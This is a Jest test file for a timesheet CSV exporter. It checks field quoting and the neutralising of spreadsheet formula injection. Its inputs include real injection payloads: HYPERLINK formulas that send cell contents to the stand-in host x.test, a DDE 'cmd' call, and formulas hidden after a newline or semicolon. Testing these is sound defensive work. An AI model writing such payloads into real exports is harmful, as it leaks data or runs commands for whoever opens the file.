import { parse } from 'csv-parse/sync';
import { csvField, csvLine, csvNumber, csvRow } from './timesheet-csv';

describe('timesheet CSV (RFC 4180)', () => {
  it('should write a number cell as its digits, a negative one too, and guard the text cells beside it', () => {
    expect(csvLine(['-2+3', csvNumber(-9, 2), csvNumber(-32400), csvNumber(0)])).toBe(
      `"'-2+3",-9.00,-32400,0\r\n`,
    );
    expect(() => csvNumber(Number.NaN)).toThrow(RangeError);
  });

  it('should quote only fields that need it, doubling quotes, and end lines with CRLF', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    const line = csvLine(['x', 'a,b', 'q"q', 'l1\r\nl2']);
    expect(line.endsWith('\r\n')).toBe(true);
    expect(parse(line)).toEqual([['x', 'a,b', 'q"q', 'l1\r\nl2']]);
  });

  it('should neutralize a cell a spreadsheet would run as a formula (OWASP: =, +, -, @, tab, CR, NUL)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) {
      const value = `${start}HYPERLINK("http://x.test/?"&A1,"pay")`;
      const cell = csvField(value);
      expect(cell.startsWith(`"'${start}`)).toBe(true);
      // an RFC 4180 reader gets the value back with only the quote before it
      expect(parse(csvLine([value, 'next']))).toEqual([[`'${value}`, 'next']]);
    }
    expect(csvField('=1+2,3')).toBe(`"'=1+2,3"`);
    // the characters only count at the start
    expect(csvField('Sita =Devi')).toBe('Sita =Devi');
    // a semicolon is quoted: a spreadsheet whose list separator it is would split the field
    // there and run the part after it
    expect(csvField('Ram;=HYPERLINK("http://x.test/?"&B2,"pay")')).toBe(
      '"Ram;=HYPERLINK(""http://x.test/?""&B2,""pay"")"',
    );
    expect(parse(csvLine(['a;b', 'c']))).toEqual([['a;b', 'c']]);
    expect(csvField('2026-03-02')).toBe('2026-03-02');
  });

  it('should write a phone-shaped value (+ and digits, single spaces between groups) as it is: arithmetic with nothing to run', () => {
    for (const phone of ['+919810000001', '+91 98100 00001', '+1 555 0100', '+7']) {
      expect(csvField(phone)).toBe(phone);
      expect(parse(csvLine([phone, 'next']))).toEqual([[phone, 'next']]);
    }
  });

  it('should keep the quote on a phone-shaped value of more than 15 digits (a spreadsheet would round it), spaced or not', () => {
    // E.164's longest, 15 digits, is written as it is (spaced too)
    for (const phone of ['+123456789012345', '+12 3456 789 012345']) {
      expect(csvField(phone)).toBe(phone);
    }
    for (const value of [
      '+1234567890123456',
      '+12345678901234567890',
      '+12 3456 7890 123456',
      '+91 98100 00001 98100 00001',
    ]) {
      expect(csvField(value)).toBe(`"'${value}"`);
      expect(parse(csvLine([value, 'next']))).toEqual([[`'${value}`, 'next']]);
    }
  });

  it('should keep the quote on anything else after a + (a call, a reference, DDE, an operator, a letter)', () => {
    for (const value of [
      "+1+cmd|' /C calc'!A0",
      '+A1',
      '+1+A1',
      '+91 98100 00001+A1',
      '+1-1',
      '+91-98100-00001',
      '+91  98100',
      '+91 ',
      '+ 91',
      '+',
      '+1E5',
      '+1.5',
      '+(1)',
      '+91\t9810',
      '+91\n9810',
      '+919810000001\0',
      '+९१९८१०',
      '+SUM(1)',
      '++91',
      '+91,1',
      '+91;=A1',
    ]) {
      expect(csvField(value).startsWith(`"'`)).toBe(true);
      expect(parse(csvLine([value, 'next']))).toEqual([[`'${value}`, 'next']]);
    }
    // the other starts keep it whatever follows, digits too (a negative number, an @ or = one)
    for (const value of ['-1', '=1', '@1', '\t1', '\r1', '\x001', '-91 98100 00001']) {
      expect(csvField(value).startsWith(`"'`)).toBe(true);
    }
  });

  it("should write the worker's name and phone after its id, quoted and neutralized", () => {
    const day = {
      workerId: 'w1',
      date: '2026-03-02',
      hours: 8,
      workedSeconds: 28_800,
      shifts: [],
      flags: [],
      flagged: false,
      corrected: false,
      seqs: [1, 2],
    };
    const person = { name: 'Devi, "Sita"\n=cmd', phone: '+91 98100 00001' };
    expect(csvRow(day, person)).toContain(',+91 98100 00001,');
    const line = csvRow(day, person);
    expect(parse(line)).toEqual([
      [
        'w1',
        'Devi, "Sita"\n=cmd',
        '+91 98100 00001',
        '2026-03-02',
        '',
        '',
        '8.00',
        '',
        'false',
        '1 2',
      ],
    ]);
    expect(
      parse(csvRow(day, { name: '@SUM(A1:A9)', phone: '98100 00001' }))[0].slice(1, 3),
    ).toEqual(["'@SUM(A1:A9)", '98100 00001']);
    // a phone stored as typed with more than digits after its + keeps the quote
    expect(parse(csvRow(day, { name: 'Sita', phone: '+91-98100-00001' }))[0][2]).toBe(
      "'+91-98100-00001",
    );
    expect(parse(csvRow(day))[0].slice(0, 4)).toEqual(['w1', '', '', '2026-03-02']);
  });

  it('should write a worker-day as worker, name, phone, date, first in, last out, hours, flags, corrected, seqs', () => {
    const row = csvRow(
      {
        workerId: 'w1',
        date: '2026-03-02',
        firstIn: '2026-03-02T22:00:00+05:30',
        hours: 0,
        workedSeconds: 0,
        shifts: [],
        flags: [
          { type: 'open_shift', seq: 3 },
          { type: 'fraud', seq: 3, detail: 'outside_geofence' },
        ],
        flagged: true,
        corrected: false,
        seqs: [3, 9],
      },
      { name: 'Sita Devi', phone: '98100 00001' },
    );
    expect(row).toBe(
      'w1,Sita Devi,98100 00001,2026-03-02,2026-03-02T22:00:00+05:30,,0.00,"open_shift@3; fraud:outside_geofence@3",false,3 9\r\n',
    );
  });
});
